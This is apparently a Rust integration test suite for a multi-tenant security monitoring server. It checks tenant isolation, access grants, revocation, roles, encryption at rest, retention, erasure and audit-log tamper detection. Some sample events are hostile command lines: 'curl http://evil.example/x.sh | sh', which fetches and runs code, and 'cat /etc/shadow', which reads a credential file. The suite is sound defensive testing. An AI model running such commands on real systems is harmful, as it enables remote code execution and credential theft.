//! Tenants and data governance, over real mutual-TLS gRPC against a running
//! server: roles, the operator's access grants, isolation tried
//! adversarially, revocation, regions, encryption at rest, retention and
//! erasure with an injected clock, and the audit trail.

#![allow(clippy::unwrap_used)]

mod support;

use std::time::Duration;
use support::tenants::{Fixture, Tenant, detection_batch, req};
use tokio_stream::StreamExt;
use tonic::Code;
use tonic::transport::{Channel, Identity};
use vigil_proto::v1::{
    self as pb, CreateApiTokenRequest, CreateEnrollmentTokenRequest, CreateTenantRequest,
    DecideAccessGrantRequest, DeleteTenantRequest, EnrollRequest, GetAlertRequest,
    GetSettingsRequest, GetTenantRequest, ListAlertsRequest, ListDevicesRequest,
    ListTenantsRequest, RequestAccessRequest, RevokeApiTokenRequest, RevokeDeviceRequest,
    RevokeEnrollmentTokenRequest, RotateDataKeyRequest, RotateMasterKeyRequest,
    SetRetentionRequest, VerifyAuditLogRequest, WatchAlertsRequest, alerts_client::AlertsClient,
    audit_client::AuditClient, ingest_client::IngestClient,
};

fn refused(entries: &[pb::AuditEntry], method: &str, code: &str) -> bool {
    entries
        .iter()
        .any(|e| e.method == method && e.result.starts_with(code))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_operator_manages_tenants_and_reads_data_only_under_an_approved_grant() {
    let f = Fixture::start().await;
    let acme = f.tenant("Acme").await;
    let dev = f.device(&acme).await;
    f.detect(&dev, 1, "cat /etc/shadow").await;
    assert_eq!(f.alert_ids(&acme.admin, None).await.unwrap().len(), 1);

    // Health and size, no data.
    let list = f
        .op()
        .list_tenants(req(ListTenantsRequest {}, &f.operator, None))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(list.regions, vec!["local".to_string()]);
    let info = list
        .tenants
        .iter()
        .find(|t| t.tenant_id == acme.id)
        .unwrap();
    assert_eq!(info.devices, 1);
    assert!(info.store_bytes > 0);
    assert!(info.last_ingest_unix_ns > 0);

    // No tenant data: without naming a tenant, naming one without a grant,
    // or with a pending one.
    let err = f.alert_ids(&f.operator, None).await.unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    let err = f.alert_ids(&f.operator, Some(&acme.id)).await.unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied, "{err:?}");
    let grant = f
        .op()
        .request_access(req(
            RequestAccessRequest {
                tenant_id: acme.id.clone(),
                reason: "ticket 4711: sensor health".into(),
                duration_minutes: 30,
            },
            &f.operator,
            None,
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(grant.state, "pending");
    assert_eq!(
        f.alert_ids(&f.operator, Some(&acme.id))
            .await
            .unwrap_err()
            .code(),
        Code::PermissionDenied
    );
    // An operator token cannot approve its own grant.
    let err = f
        .admin()
        .approve_access_grant(req(
            DecideAccessGrantRequest {
                grant_id: grant.grant_id.clone(),
            },
            &f.operator,
            Some(&acme.id),
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);

    // The tenant's admin approves: read-only access, for its duration.
    let approved = f
        .admin()
        .approve_access_grant(req(
            DecideAccessGrantRequest {
                grant_id: grant.grant_id.clone(),
            },
            &acme.admin,
            None,
        ))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(approved.state, "approved");
    assert_eq!(
        f.alert_ids(&f.operator, Some(&acme.id))
            .await
            .unwrap()
            .len(),
        1
    );
    // Read-only: no admin calls under a grant.
    let err = f
        .admin()
        .create_api_token(req(
            CreateApiTokenRequest {
                name: "backdoor".into(),
                role: pb::Role::Admin as i32,
                expires_days: 0,
            },
            &f.operator,
            Some(&acme.id),
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    f.clock.advance(Duration::from_secs(31 * 60));
    assert_eq!(
        f.alert_ids(&f.operator, Some(&acme.id))
            .await
            .unwrap_err()
            .code(),
        Code::PermissionDenied,
        "an expired grant opens nothing"
    );

    // The grant and each use of it are in the tenant's log and the deployment's.
    let tenant_log = f.audit_entries(&acme.admin).await;
    assert!(
        tenant_log
            .iter()
            .any(|e| e.method == "Operator/RequestAccess")
    );
    assert!(
        tenant_log
            .iter()
            .any(|e| e.method == "Admin/ApproveAccessGrant")
    );
    let uses: Vec<_> = tenant_log
        .iter()
        .filter(|e| e.method == "Alerts/ListAlerts" && e.role.starts_with("operator under"))
        .collect();
    assert_eq!(uses.len(), 1, "{uses:?}");
    assert_eq!(uses[0].result, "ok");
    assert!(refused(
        &tenant_log,
        "Alerts/ListAlerts",
        "PermissionDenied"
    ));
    let deployment_log = f.audit_entries(&f.operator).await;
    assert!(
        deployment_log
            .iter()
            .any(|e| e.method == "Operator/CreateTenant" && e.tenant_id == acme.id)
    );
    assert!(
        deployment_log
            .iter()
            .any(|e| e.method == "Alerts/ListAlerts"
                && e.role.starts_with("operator under")
                && e.result == "ok")
    );
    f.server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_tenant_cannot_reach_another_tenants_data_by_any_route() {
    let f = Fixture::start().await;
    let acme = f.tenant("Acme").await;
    let globex = f.tenant("Globex").await;
    let acme_dev = f.device(&acme).await;
    let globex_dev = f.device(&globex).await;
    let (g_analyst, _) = f.token(&globex, pb::Role::Analyst).await;
    let (a_analyst, a_analyst_id) = f.token(&acme, pb::Role::Analyst).await;

    // Globex watches its alerts while Acme's device raises one.
    let mut g_watch = f
        .alerts()
        .watch_alerts(req(WatchAlertsRequest::default(), &g_analyst, None))
        .await
        .unwrap()
        .into_inner();
    let mut a_watch = f
        .alerts()
        .watch_alerts(req(WatchAlertsRequest::default(), &a_analyst, None))
        .await
        .unwrap()
        .into_inner();
    f.detect(&acme_dev, 1, "acme secret").await;
    let seen = tokio::time::timeout(Duration::from_secs(5), a_watch.next())
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    let acme_alert = seen.id.clone();
    assert!(
        tokio::time::timeout(Duration::from_millis(500), g_watch.next())
            .await
            .is_err(),
        "Acme's alert reached Globex's watcher"
    );
    f.detect(&globex_dev, 1, "globex own").await;
    let g_seen = tokio::time::timeout(Duration::from_secs(5), g_watch.next())
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    assert_eq!(g_seen.device_id, globex_dev.id);

    // By id: indistinguishable from a missing alert.
    let err = f
        .alerts()
        .get_alert(req(
            GetAlertRequest {
                id: acme_alert.clone(),
            },
            &g_analyst,
            None,
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::NotFound);
    // By list filters naming Acme's device, rule or time.
    let listed = f
        .alerts()
        .list_alerts(req(
            ListAlertsRequest {
                device_id: acme_dev.id.clone(),
                ..Default::default()
            },
            &g_analyst,
            None,
        ))
        .await
        .unwrap()
        .into_inner();
    assert!(listed.alerts.is_empty());
    let all = f.alert_ids(&g_analyst, None).await.unwrap();
    assert_eq!(all, vec![g_seen.id.clone()]);
    // By a page token taken from Acme's ids.
    let paged = f
        .alerts()
        .list_alerts(req(
            ListAlertsRequest {
                page_token: format!("{acme_alert}z"),
                ..Default::default()
            },
            &g_analyst,
            None,
        ))
        .await
        .unwrap()
        .into_inner();
    assert!(paged.alerts.iter().all(|a| a.device_id == globex_dev.id));
    // By naming the tenant: a token acts only in its own.
    let err = f.alert_ids(&g_analyst, Some(&acme.id)).await.unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);

    // Admin calls on another tenant's objects find nothing.
    let err = f
        .admin()
        .revoke_device(req(
            RevokeDeviceRequest {
                device_id: acme_dev.id.clone(),
            },
            &globex.admin,
            None,
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::NotFound);
    let err = f
        .admin()
        .revoke_api_token(req(
            RevokeApiTokenRequest {
                token_id: a_analyst_id.clone(),
            },
            &globex.admin,
            None,
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::NotFound);
    let devices = f
        .admin()
        .list_devices(req(ListDevicesRequest {}, &globex.admin, None))
        .await
        .unwrap()
        .into_inner()
        .devices;
    assert_eq!(
        devices.iter().map(|d| &d.device_id).collect::<Vec<_>>(),
        vec![&globex_dev.id]
    );
    // Acme's analyst still works: nothing above touched Acme.
    assert_eq!(
        f.alert_ids(&a_analyst, None).await.unwrap(),
        vec![acme_alert.clone()]
    );

    // Ingest under a forged identity: our CA's signature, Globex's tenant on
    // Acme's device id (as if the CA key leaked, the worst case).
    let (key, csr) = vigil_pki::device_key_and_csr("h").unwrap();
    let forged = vigil_pki::DeviceIdentity {
        tenant_id: globex.id.clone(),
        device_id: acme_dev.id.clone(),
    };
    let cert = f
        .server
        .ca()
        .sign_device(&csr, &forged, vigil_pki::DEVICE_CERT_VALIDITY)
        .unwrap();
    let mut ingest = f.server.ingest(Some(Identity::from_pem(&cert, &key))).await;
    let err = ingest
        .stream(tokio_stream::iter(vec![detection_batch(9, "forged")]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    // A device id nobody enrolled.
    let ghost = vigil_pki::DeviceIdentity {
        tenant_id: acme.id.clone(),
        device_id: "ghost".into(),
    };
    let cert = f
        .server
        .ca()
        .sign_device(&csr, &ghost, vigil_pki::DEVICE_CERT_VALIDITY)
        .unwrap();
    let mut ingest = f.server.ingest(Some(Identity::from_pem(&cert, &key))).await;
    assert_eq!(
        ingest
            .stream(tokio_stream::iter(vec![detection_batch(9, "ghost")]))
            .await
            .unwrap_err()
            .code(),
        Code::PermissionDenied
    );
    // No certificate.
    let err = f
        .server
        .ingest(None)
        .await
        .stream(tokio_stream::iter(vec![detection_batch(9, "anon")]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    // No forged record reached either tenant.
    assert_eq!(f.alert_ids(&a_analyst, None).await.unwrap().len(), 1);
    assert_eq!(f.alert_ids(&g_analyst, None).await.unwrap().len(), 1);

    // Every refusal is in the audit trail, and each tenant named hears of it.
    let g_log = f.audit_entries(&globex.admin).await;
    assert!(refused(&g_log, "Alerts/ListAlerts", "PermissionDenied"));
    assert!(refused(&g_log, "Admin/RevokeDevice", "NotFound"));
    assert!(
        refused(&g_log, "Ingest/Stream", "PermissionDenied"),
        "forged tenant not in its log"
    );
    let a_log = f.audit_entries(&acme.admin).await;
    assert!(
        refused(&a_log, "Ingest/Stream", "PermissionDenied"),
        "Acme's device impersonated, not in its log"
    );
    let d_log = f.audit_entries(&f.operator).await;
    assert!(refused(&d_log, "Ingest/Stream", "PermissionDenied"));
    assert!(refused(&d_log, "Ingest/Stream", "Unauthenticated"));
    f.server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn revoked_tokens_and_devices_are_refused_and_their_open_streams_closed() {
    let f = Fixture::start().await;
    let acme = f.tenant("Acme").await;
    let dev = f.device(&acme).await;
    let (analyst, analyst_id) = f.token(&acme, pb::Role::Analyst).await;

    // An analyst's open watch ends when their token is revoked.
    let mut watch = f
        .alerts()
        .watch_alerts(req(WatchAlertsRequest::default(), &analyst, None))
        .await
        .unwrap()
        .into_inner();
    f.admin()
        .revoke_api_token(req(
            RevokeApiTokenRequest {
                token_id: analyst_id,
            },
            &acme.admin,
            None,
        ))
        .await
        .unwrap();
    let end = tokio::time::timeout(Duration::from_secs(5), watch.next())
        .await
        .expect("the watch ends")
        .unwrap()
        .unwrap_err();
    assert_eq!(end.code(), Code::PermissionDenied);
    let err = f.alert_ids(&analyst, None).await.unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    assert!(err.message().contains("revoked"));

    // A device's open stream is closed when it is revoked; it cannot reopen.
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    let mut ingest = f.server.ingest(Some(dev.identity.clone())).await;
    let mut acks = ingest
        .stream(tokio_stream::wrappers::ReceiverStream::new(rx))
        .await
        .unwrap()
        .into_inner();
    tx.send(detection_batch(1, "before")).await.unwrap();
    assert_eq!(acks.next().await.unwrap().unwrap().stored_through, 1);
    let info = f
        .admin()
        .revoke_device(req(
            RevokeDeviceRequest {
                device_id: dev.id.clone(),
            },
            &acme.admin,
            None,
        ))
        .await
        .unwrap()
        .into_inner();
    assert!(info.revoked_unix_ns > 0);
    let end = tokio::time::timeout(Duration::from_secs(5), acks.next())
        .await
        .expect("the stream is closed")
        .unwrap()
        .unwrap_err();
    assert_eq!(end.code(), Code::PermissionDenied);
    let _ = tx.send(detection_batch(2, "after")).await;
    let mut again = f.server.ingest(Some(dev.identity.clone())).await;
    let err = again
        .stream(tokio_stream::iter(vec![detection_batch(2, "after")]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    assert_eq!(f.alert_ids(&acme.admin, None).await.unwrap().len(), 1);

    // Enrollment tokens: revoked, and expired by the clock.
    let created = f
        .admin()
        .create_enrollment_token(req(
            CreateEnrollmentTokenRequest { valid_hours: 1 },
            &acme.admin,
            None,
        ))
        .await
        .unwrap()
        .into_inner();
    f.admin()
        .revoke_enrollment_token(req(
            RevokeEnrollmentTokenRequest {
                token_id: created.info.unwrap().token_id,
            },
            &acme.admin,
            None,
        ))
        .await
        .unwrap();
    let (_, csr) = vigil_pki::device_key_and_csr("h").unwrap();
    let enroll = |token: String| {
        let ch = f.ch.clone();
        let csr = csr.clone();
        async move {
            IngestClient::new(ch)
                .enroll(EnrollRequest {
                    enrollment_token: token,
                    csr_pem: csr,
                    host: None,
                })
                .await
        }
    };
    let err = enroll(created.token).await.unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    assert!(err.message().contains("revoked"));
    let fresh = f
        .admin()
        .create_enrollment_token(req(
            CreateEnrollmentTokenRequest { valid_hours: 1 },
            &acme.admin,
            None,
        ))
        .await
        .unwrap()
        .into_inner();
    f.clock.advance(Duration::from_secs(3601));
    let err = enroll(fresh.token).await.unwrap_err();
    assert!(err.message().contains("expired"), "{err:?}");

    // API tokens expire by the clock too.
    let r = f
        .admin()
        .create_api_token(req(
            CreateApiTokenRequest {
                name: "contractor".into(),
                role: pb::Role::ReadOnly as i32,
                expires_days: 1,
            },
            &acme.admin,
            None,
        ))
        .await
        .unwrap()
        .into_inner();
    assert!(f.alert_ids(&r.token, None).await.is_ok());
    f.clock.advance(Duration::from_secs(86_401));
    let err = f.alert_ids(&r.token, None).await.unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    assert!(err.message().contains("expired"));

    let log = f.audit_entries(&acme.admin).await;
    assert!(refused(&log, "Alerts/ListAlerts", "Unauthenticated"));
    assert!(refused(&log, "Ingest/Stream", "PermissionDenied"));
    assert!(
        log.iter()
            .any(|e| e.method == "Admin/RevokeDevice" && e.result == "ok")
    );
    f.server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_role_does_only_its_part() {
    let f = Fixture::start().await;
    let acme = f.tenant("Acme").await;
    let (auditor, _) = f.token(&acme, pb::Role::Auditor).await;
    let (read_only, _) = f.token(&acme, pb::Role::ReadOnly).await;
    let (analyst, _) = f.token(&acme, pb::Role::Analyst).await;
    let create = |token: String| {
        let mut admin = f.admin();
        async move {
            admin
                .create_api_token(req(
                    CreateApiTokenRequest {
                        name: "x".into(),
                        role: pb::Role::Admin as i32,
                        expires_days: 0,
                    },
                    &token,
                    None,
                ))
                .await
                .map(|_| ())
                .map_err(|s| s.code())
        }
    };
    let verify = |token: String| {
        let mut audit = f.audit();
        async move {
            audit
                .verify_audit_log(req(VerifyAuditLogRequest {}, &token, None))
                .await
                .map(|r| r.into_inner().ok)
                .map_err(|s| s.code())
        }
    };
    // Data: admin, analyst, read-only; not the auditor.
    assert!(f.alert_ids(&analyst, None).await.is_ok());
    assert!(f.alert_ids(&read_only, None).await.is_ok());
    assert!(f.alert_ids(&acme.admin, None).await.is_ok());
    assert_eq!(
        f.alert_ids(&auditor, None).await.unwrap_err().code(),
        Code::PermissionDenied
    );
    // People: the admin only.
    assert_eq!(create(analyst.clone()).await, Err(Code::PermissionDenied));
    assert_eq!(create(read_only.clone()).await, Err(Code::PermissionDenied));
    assert_eq!(create(auditor.clone()).await, Err(Code::PermissionDenied));
    assert_eq!(create(acme.admin.clone()).await, Ok(()));
    // Audit: auditor and admin.
    assert_eq!(verify(auditor.clone()).await, Ok(true));
    assert_eq!(verify(acme.admin.clone()).await, Ok(true));
    assert_eq!(verify(analyst.clone()).await, Err(Code::PermissionDenied));
    assert_eq!(verify(read_only.clone()).await, Err(Code::PermissionDenied));
    // Tenants: the operator only.
    let err = f
        .op()
        .list_tenants(req(ListTenantsRequest {}, &acme.admin, None))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);
    // No such token at all.
    assert_eq!(
        f.alert_ids("vgl_api_0000", None).await.unwrap_err().code(),
        Code::Unauthenticated
    );
    f.server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_byte_of_an_event_is_in_plaintext_under_the_data_directory() {
    let marker = "MARKER-7f3a9c-curl http://evil.example/x.sh | sh";
    let f = Fixture::start().await;
    let acme = f.tenant("Acme").await;
    let dev = f.device(&acme).await;
    for seq in 1..=20 {
        f.detect(&dev, seq, &format!("{marker} #{seq}")).await;
    }
    // Read back through the API (so it is there, and readable by its tenant).
    let alerts = f
        .alerts()
        .list_alerts(req(ListAlertsRequest::default(), &acme.admin, None))
        .await
        .unwrap()
        .into_inner()
        .alerts;
    assert_eq!(alerts.len(), 20);
    assert!(
        alerts[0]
            .process
            .as_ref()
            .unwrap()
            .command_line
            .starts_with(marker)
    );
    // Rotate the data key and wait for the re-seal, so rotation is covered too.
    f.admin()
        .rotate_data_key(req(RotateDataKeyRequest {}, &acme.admin, None))
        .await
        .unwrap();
    for _ in 0..100 {
        let s = f
            .admin()
            .get_settings(req(GetSettingsRequest {}, &acme.admin, None))
            .await
            .unwrap()
            .into_inner();
        if s.data_key_versions_in_use == vec![2] {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    f.server.maintenance().flush_audit().await;
    let needle = &marker.as_bytes()[..16];
    let dir = f.server.dir.path().to_owned();
    let mut checked = 0;
    for file in support::files_under(&dir) {
        let raw = std::fs::read(&file).unwrap();
        checked += raw.len();
        assert!(
            !raw.windows(needle.len()).any(|w| w == needle),
            "plaintext of an event in {}",
            file.display()
        );
    }
    assert!(checked > 0);
    // And still readable after all that.
    assert_eq!(f.alert_ids(&acme.admin, None).await.unwrap().len(), 20);
    f.server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retention_follows_each_tenants_setting_by_the_injected_clock() {
    let f = Fixture::start().await;
    let acme = f.tenant("Acme").await;
    let globex = f.tenant("Globex").await;
    let a = f.device(&acme).await;
    let g = f.device(&globex).await;
    f.detect(&a, 1, "old acme").await;
    f.detect(&g, 1, "old globex").await;
    let err = f
        .admin()
        .set_retention(req(
            SetRetentionRequest { retention_days: 7 },
            &acme.admin,
            None,
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    f.admin()
        .set_retention(req(
            SetRetentionRequest { retention_days: 30 },
            &acme.admin,
            None,
        ))
        .await
        .unwrap();
    f.clock.advance(Duration::from_secs(31 * 86_400));
    f.detect(&a, 2, "new acme").await;
    let purged = f.server.maintenance().enforce_retention().await.unwrap();
    let of = |id: &str| {
        purged
            .iter()
            .find(|p| p.0 == id)
            .map(|p| (p.1, p.2))
            .unwrap()
    };
    assert_eq!(of(&acme.id), (1, 1));
    assert_eq!(of(&globex.id), (0, 0));
    assert_eq!(f.alert_ids(&acme.admin, None).await.unwrap().len(), 1);
    assert_eq!(f.alert_ids(&globex.admin, None).await.unwrap().len(), 1);
    let log = f.audit_entries(&acme.admin).await;
    let entry = log.iter().find(|e| e.method == "Retention").unwrap();
    assert!(
        entry.summary.contains("removed 1 records and 1 alerts"),
        "{}",
        entry.summary
    );
    assert!(
        log.iter()
            .any(|e| e.method == "Admin/SetRetention" && e.summary == "retention_days=30")
    );
    f.server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deleting_a_tenant_shreds_its_keys_then_its_files_and_closes_its_streams() {
    let f = Fixture::start().await;
    let acme = f.tenant("Acme").await;
    let globex = f.tenant("Globex").await;
    let dev = f.device(&acme).await;
    let g = f.device(&globex).await;
    f.detect(&g, 1, "globex stays").await;
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    let mut ingest = f.server.ingest(Some(dev.identity.clone())).await;
    let mut acks = ingest
        .stream(tokio_stream::wrappers::ReceiverStream::new(rx))
        .await
        .unwrap()
        .into_inner();
    tx.send(detection_batch(1, "acme goes")).await.unwrap();
    acks.next().await.unwrap().unwrap();
    let tenant_dir = f
        .server
        .dir
        .path()
        .join("server/store/tenants")
        .join(&acme.id);
    assert!(tenant_dir.join("data.redb").exists());

    let err = f
        .op()
        .delete_tenant(req(
            DeleteTenantRequest {
                tenant_id: acme.id.clone(),
                confirm_name: "Globex".into(),
            },
            &f.operator,
            None,
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::FailedPrecondition);
    let done = f
        .op()
        .delete_tenant(req(
            DeleteTenantRequest {
                tenant_id: acme.id.clone(),
                confirm_name: "Acme".into(),
            },
            &f.operator,
            None,
        ))
        .await
        .unwrap()
        .into_inner();
    assert!(done.bytes_removed > 0);
    assert!(!tenant_dir.exists());
    let end = tokio::time::timeout(Duration::from_secs(5), acks.next())
        .await
        .unwrap()
        .unwrap()
        .unwrap_err();
    assert_eq!(end.code(), Code::PermissionDenied);
    assert!(
        f.server.control.tenant(&acme.id).unwrap().is_none(),
        "keys still there"
    );
    assert_eq!(
        f.alert_ids(&acme.admin, None).await.unwrap_err().code(),
        Code::Unauthenticated
    );
    let err = f
        .op()
        .get_tenant(req(
            GetTenantRequest {
                tenant_id: acme.id.clone(),
            },
            &f.operator,
            None,
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::NotFound);
    assert!(err.message().contains("deleted"));
    // The other tenant is untouched; the erasure is audited.
    assert_eq!(f.alert_ids(&globex.admin, None).await.unwrap().len(), 1);
    let log = f.audit_entries(&f.operator).await;
    assert!(log.iter().any(|e| e.method == "Operator/DeleteTenant"
        && e.result == "ok"
        && e.summary.contains(&acme.id)));
    f.server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tenants_data_is_written_only_under_its_regions_directory() {
    let root = tempfile::tempdir().unwrap();
    let (eu, us) = (root.path().join("eu"), root.path().join("us"));
    let regions = |names: &[&str]| {
        names
            .iter()
            .map(|n| vigil_server::RegionConfig {
                name: (*n).into(),
                data_dir: root.path().join(n),
            })
            .collect::<Vec<_>>()
    };
    let both = regions(&["eu", "us"]);
    let f = Fixture::start_with(move |c| c.regions = both).await;
    let create = |region: &str| {
        let mut op = f.op();
        let token = f.operator.clone();
        let region = region.to_owned();
        async move {
            op.create_tenant(req(
                CreateTenantRequest {
                    name: format!("in {region}"),
                    region,
                    retention_days: 60,
                },
                &token,
                None,
            ))
            .await
            .map(|r| r.into_inner())
        }
    };
    // With two regions, one must be named; an unserved one is refused.
    let err = f
        .op()
        .create_tenant(req(
            CreateTenantRequest {
                name: "x".into(),
                ..Default::default()
            },
            &f.operator,
            None,
        ))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    let err = create("mars").await.unwrap_err();
    assert_eq!(err.code(), Code::FailedPrecondition);
    assert!(err.message().contains("mars"));
    let r = create("eu").await.unwrap();
    let t = r.tenant.unwrap();
    assert_eq!(t.region, "eu");
    let tenant = Tenant {
        id: t.tenant_id.clone(),
        admin: r.admin_token,
    };
    let dev = f.device(&tenant).await;
    f.detect(&dev, 1, "eu data").await;
    assert!(
        eu.join("tenants")
            .join(&t.tenant_id)
            .join("data.redb")
            .exists()
    );
    assert!(!us.join("tenants").join(&t.tenant_id).exists());
    assert!(
        !f.server
            .dir
            .path()
            .join("server/store/tenants")
            .join(&t.tenant_id)
            .exists()
    );

    // The same deployment restarted serving only `us`: the eu tenant is refused, clearly.
    let paused = f.server.pause().await;
    let only_us = regions(&["us"]);
    let server = paused
        .resume_with(
            move |c| c.regions = only_us,
            vigil_server::BindOptions::default(),
        )
        .await;
    let mut ingest = server.ingest(Some(dev.identity.clone())).await;
    let err = ingest
        .stream(tokio_stream::iter(vec![detection_batch(2, "eu data")]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::FailedPrecondition, "{err:?}");
    assert!(err.message().contains("region `eu`"), "{}", err.message());
    let ch = server.channel(None).await.unwrap();
    let err = AlertsClient::new(ch)
        .list_alerts(req(ListAlertsRequest::default(), &tenant.admin, None))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::FailedPrecondition);
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_trail_survives_restarts_and_verify_catches_any_edit() {
    let f = Fixture::start().await;
    let acme = f.tenant("Acme").await;
    for _ in 0..5 {
        f.alert_ids(&acme.admin, None).await.unwrap();
    }
    let verify = |token: String, ch: Channel| async move {
        AuditClient::new(ch)
            .verify_audit_log(req(VerifyAuditLogRequest {}, &token, None))
            .await
            .unwrap()
            .into_inner()
    };
    assert!(verify(acme.admin.clone(), f.ch.clone()).await.ok);
    let before = f.audit_entries(&acme.admin).await.len();
    // Across a restart the chain continues.
    let admin = acme.admin.clone();
    let paused = f.server.pause().await;
    let server = paused.resume().await;
    let ch = server.channel(None).await.unwrap();
    AlertsClient::new(ch.clone())
        .list_alerts(req(ListAlertsRequest::default(), &admin, None))
        .await
        .unwrap();
    let r = verify(admin.clone(), ch.clone()).await;
    assert!(r.ok, "{}", r.reason);
    assert!(r.entries as usize > before);
    server.maintenance().flush_audit().await;

    let log = server
        .dir
        .path()
        .join("server/store/tenants")
        .join(&acme.id)
        .join("audit.log");
    // Each edit is made to the live file, verified through the server, then
    // undone (keeping what the server appended meanwhile, verify calls included).
    let tamper = |edit: &dyn Fn(&[u8]) -> Vec<u8>| {
        let (log, admin, ch) = (log.clone(), admin.clone(), ch.clone());
        let before = std::fs::read(&log).unwrap();
        let edited = edit(&before);
        std::fs::write(&log, &edited).unwrap();
        async move {
            let r = verify(admin, ch).await;
            let after = std::fs::read(&log).unwrap();
            let mut restored = before;
            restored.extend_from_slice(&after[edited.len()..]);
            std::fs::write(&log, &restored).unwrap();
            r
        }
    };
    let lines = |b: &[u8]| -> Vec<Vec<u8>> {
        b.split_inclusive(|c| *c == b'\n')
            .map(<[u8]>::to_vec)
            .collect()
    };
    // One changed byte in the middle of an entry.
    let r = tamper(&|b| {
        let mut e = b.to_vec();
        let at = e.len() / 2;
        e[at] = if e[at] == b'a' { b'b' } else { b'a' };
        e
    })
    .await;
    assert!(!r.ok);
    assert!(r.first_bad_line > 0);
    // One entry removed.
    let r = tamper(&|b| {
        let mut l = lines(b);
        l.remove(2);
        l.concat()
    })
    .await;
    assert!(!r.ok);
    assert_eq!(r.first_bad_line, 3, "{}", r.reason);
    // Two entries swapped.
    let r = tamper(&|b| {
        let mut l = lines(b);
        l.swap(1, 2);
        l.concat()
    })
    .await;
    assert!(!r.ok);
    assert_eq!(r.first_bad_line, 2, "{}", r.reason);
    // The last entries cut off.
    let r = tamper(&|b| {
        let l = lines(b);
        l[..l.len() - 2].concat()
    })
    .await;
    assert!(!r.ok);
    assert!(r.reason.contains("removed from the end"), "{}", r.reason);
    // Every edit undone, it verifies again: nothing above was a false alarm.
    let r = verify(admin.clone(), ch.clone()).await;
    assert!(r.ok, "{}", r.reason);
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn master_key_rotation_keeps_every_tenant_readable_across_a_restart() {
    let f = Fixture::start().await;
    let acme = f.tenant("Acme").await;
    let dev = f.device(&acme).await;
    f.detect(&dev, 1, "before rotation").await;
    let r = f
        .op()
        .rotate_master_key(req(RotateMasterKeyRequest {}, &f.operator, None))
        .await
        .unwrap()
        .into_inner();
    assert_ne!(r.master_key_id, r.retired_key_id);
    assert_eq!(r.tenants_rewrapped, 1);
    // While serving: old data reads, new data writes.
    f.detect(&dev, 2, "after rotation").await;
    assert_eq!(f.alert_ids(&acme.admin, None).await.unwrap().len(), 2);
    let admin = acme.admin.clone();
    let server = f.server.pause().await.resume().await;
    let ch = server.channel(None).await.unwrap();
    let alerts = AlertsClient::new(ch)
        .list_alerts(req(ListAlertsRequest::default(), &admin, None))
        .await
        .unwrap()
        .into_inner()
        .alerts;
    assert_eq!(alerts.len(), 2);
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_anonymous_refusals_is_counted_not_itemized() {
    let f = Fixture::start().await;
    for _ in 0..120 {
        let err = f.alert_ids("vgl_api_guess", None).await.unwrap_err();
        assert_eq!(err.code(), Code::Unauthenticated);
    }
    f.clock.advance(Duration::from_secs(2));
    f.alert_ids("vgl_api_guess", None).await.unwrap_err();
    let log = f.audit_entries(&f.operator).await;
    let itemized = log
        .iter()
        .filter(|e| e.actor == "anonymous" && e.method == "Alerts/ListAlerts")
        .count();
    assert_eq!(itemized, 51, "50 in the first second, then the next one");
    let summary = log.iter().find(|e| e.method == "Refusals").unwrap();
    assert!(
        summary.summary.starts_with("70 refused anonymous calls"),
        "{}",
        summary.summary
    );
    f.server.stop().await;
}
